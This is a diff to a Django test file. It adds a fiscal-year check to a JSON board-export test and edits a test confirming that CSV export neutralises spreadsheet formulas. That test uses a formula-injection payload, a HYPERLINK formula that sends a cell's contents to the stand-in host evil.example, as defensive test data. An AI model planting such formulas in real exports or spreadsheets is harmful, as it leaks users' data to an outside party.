@@ -76,7 +76,8 @@ def test_json_export_computes_without_storing_and_has_every_key(reported):
     call_command("export_board", "--as-of", "2026-08-15", stdout=out, stderr=err)
     data = json.loads(out.getvalue())
     assert "recomputed today from today's approvals (not stored)" in err.getvalue()
-    assert set(data) == {"as_of", "nodes", "programs"}
+    assert set(data) == {"as_of", "fiscal_year", "nodes", "programs"}
+    assert data["fiscal_year"] == 2026
     assert data["as_of"] == "2026-08-15"
     for node in data["nodes"]:
         assert set(node) >= NODE_KEYS
@@ -204,7 +205,7 @@ def test_recompute_status_command_prints_a_summary(reported):
 
 @pytest.mark.django_db
 def test_csv_export_neutralises_formulas_and_keeps_negative_numbers(reported):
-    node = reported.a.node
+    node = reported.a
     node.name = '=HYPERLINK("http://evil.example/?leak="&J5,"Click")'
     node.save()
     kpi = reported.a.kpis.get(code="A-CUM")
